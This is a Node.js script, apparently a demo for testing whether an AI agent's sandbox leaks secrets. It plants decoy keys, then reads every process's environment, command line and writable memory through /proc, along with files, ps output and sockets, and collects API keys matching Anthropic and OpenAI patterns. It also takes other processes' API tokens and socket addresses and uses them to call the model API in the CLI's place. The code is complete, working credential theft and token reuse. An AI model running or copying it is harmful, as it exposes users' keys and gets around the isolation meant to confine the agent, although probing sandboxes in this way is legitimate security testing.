// What the agent runs in its shell when it is asked for its key: reads everything that its uid may read, and writes what it
// found to a file in its workspace. To prove that the search works, it first hides a decoy in each kind of place.
'use strict'

const { execFileSync, spawn } = require('node:child_process')
const fs = require('node:fs')
const http = require('node:http')
const path = require('node:path')

const directories = process.argv.slice(2)
/** The beginning of every vendor's key; written so that this file does not contain one. */
const KEY = new RegExp(`${'s'}k-(?:ant-|proj-|svcacct-)[\\w-]{16,}`, 'g')
const decoy = (/** @type {string} */ place) => `${'s'}k-proj-decoy-in-the-${place}`
const MAX_FILE_BYTES = 32 * 1024 * 1024
/** A shared /tmp, or a machine full of processes, must not hold the demo up. */
const DEADLINE = Date.now() + 10_000
const isLate = () => Date.now() > DEADLINE
const PIECE = 4 * 1024 * 1024
const OVERLAP = 256

/** @type {Record<string, { looked: number, keys: Set<string> }>} */
const places = {}
for (const name of ['environment', 'command line', 'memory', 'files', 'ps', 'sockets']) places[name] = { looked: 0, keys: new Set() }

/** @param {string} name @param {Buffer | string} content */
function search(name, content) {
  const texts = typeof content === 'string' ? [content] : [content.toString('latin1'), content.toString('utf16le')]
  for (const text of texts) for (const [key] of text.matchAll(KEY)) places[name].keys.add(key)
}

/** @param {string} file */
function read(file) {
  try {
    return fs.readFileSync(file)
  } catch {
    // What may not be read shows nothing.
    return undefined
  }
}

/** @param {string} name @param {Buffer | string | undefined} content */
function look(name, content) {
  if (content === undefined) return
  places[name].looked += 1
  search(name, content)
}

/** The writable memory of a process, as far as the kernel lets its uid. @param {string} pid */
function readMemory(pid) {
  let fd
  try {
    fd = fs.openSync(`/proc/${pid}/mem`, 'r')
  } catch {
    return
  }
  places.memory.looked += 1
  const buffer = Buffer.alloc(PIECE)
  for (const [, from, to] of (read(`/proc/${pid}/maps`) ?? '').toString().matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
    const end = Number.parseInt(to, 16)
    for (let at = Number.parseInt(from, 16); at < end && !isLate(); at += PIECE - OVERLAP) {
      try {
        const length = fs.readSync(fd, buffer, 0, Math.min(PIECE, end - at), at)
        if (length > 0 && buffer.subarray(0, length).includes('k-')) search('memory', buffer.subarray(0, length))
      } catch {
        // Not all of it can be read, such as [vvar].
        break
      }
    }
  }
  fs.closeSync(fd)
}

function readProcesses() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    look('environment', read(`/proc/${pid}/environ`))
    look('command line', read(`/proc/${pid}/cmdline`))
    if (Number(pid) !== process.pid) readMemory(pid)
  }
}

/** @param {string} directory */
function readFiles(directory) {
  let entries
  try {
    entries = fs.readdirSync(directory, { withFileTypes: true })
  } catch {
    return
  }
  for (const entry of entries) {
    const file = path.join(directory, entry.name)
    if (isLate()) return
    if (entry.isDirectory()) readFiles(file)
    else if (entry.isFile() && (fs.statSync(file, { throwIfNoEntry: false })?.size ?? 0) <= MAX_FILE_BYTES) look('files', read(file))
  }
}

/** @param {string} name @param {string} program @param {string[]} args */
function readOutput(name, program, ...args) {
  try {
    look(name, execFileSync(program, args, { maxBuffer: MAX_FILE_BYTES, stdio: ['ignore', 'pipe', 'ignore'] }))
  } catch {
    // It is not installed everywhere.
  }
}

/** A process of the agent's own with a decoy in its environment and another in its memory, and a file with a third. */
async function hideDecoys() {
  const code =
    "let text = ''; process.stdin.on('data', (more) => { text += more; process.stdout.write('.') }); setInterval(() => text.length, 1e6)"
  const holder = spawn(process.execPath, ['-e', code], { stdio: ['pipe', 'pipe', 'ignore'], env: { DECOY: decoy('environment') } })
  holder.stdin.write(decoy('memory'))
  await new Promise((resolve) => holder.stdout.once('data', resolve))
  fs.writeFileSync(path.join(directories[0], 'decoy'), decoy('file'))
  return () => holder.kill('SIGKILL')
}

/** What other processes of this uid were given to reach their API. */
function findWays() {
  const addresses = new Set()
  const tokens = new Set()
  for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    const variables = new Map(
      (read(`/proc/${pid}/environ`) ?? '')
        .toString()
        .split('\0')
        .map((each) => /** @type {[string, string]} */ (each.split(/=(.*)/s).slice(0, 2)))
    )
    const [, url] = /openai_base_url="(http:[^"]+)"/.exec((read(`/proc/${pid}/cmdline`) ?? '').toString()) ?? []
    for (const address of [url, variables.get('ANTHROPIC_UNIX_SOCKET')]) if (address) addresses.add(address)
    for (const token of [variables.get('CODEX_API_KEY'), variables.get('ANTHROPIC_API_KEY')]) if (token) tokens.add(token)
  }
  if (tokens.size === 0) tokens.add('a-guess')
  return [...addresses].flatMap((address) => [...tokens].map((token) => ({ address, token })))
}

/** Asks the API in the CLI's place. @param {{ address: string, token: string }} way @returns {Promise<{ status: number, text: string }>} */
function ask({ address, token }) {
  const isSocket = address.startsWith('/')
  const url = isSocket ? 'http://localhost/v1/messages' : `${address}/responses`
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  return new Promise((resolve) => {
    const request = http.request(url, { method: 'POST', headers, ...(isSocket ? { socketPath: address } : {}) }, (response) => {
      let text = ''
      response.on('data', (more) => (text += more)).on('end', () => resolve({ status: response.statusCode ?? 0, text }))
    })
    request
      .on('error', (error) => resolve({ status: 0, text: error.message }))
      .end('{"model":"any","messages":[],"input":"from the shell"}')
  })
}

async function main() {
  const end = await hideDecoys()
  // The decoys among them come first: directories of its own before those that it shares.
  directories.forEach(readFiles)
  readProcesses()
  readOutput('ps', 'ps', 'axeww')
  for (const name of ['unix', 'tcp']) look('sockets', read(`/proc/net/${name}`))
  readOutput('sockets', 'ss', '-anptx')
  end()
  const answers = []
  for (const way of findWays()) answers.push(await ask(way))
  const found = Object.entries(places).map(([name, { looked, keys }]) => ({ name, looked, keys: [...keys] }))
  fs.writeFileSync(path.join(directories[0], 'found.json'), JSON.stringify({ found, answers }))
  process.stdout.write('The search is over.\n')
}

main()
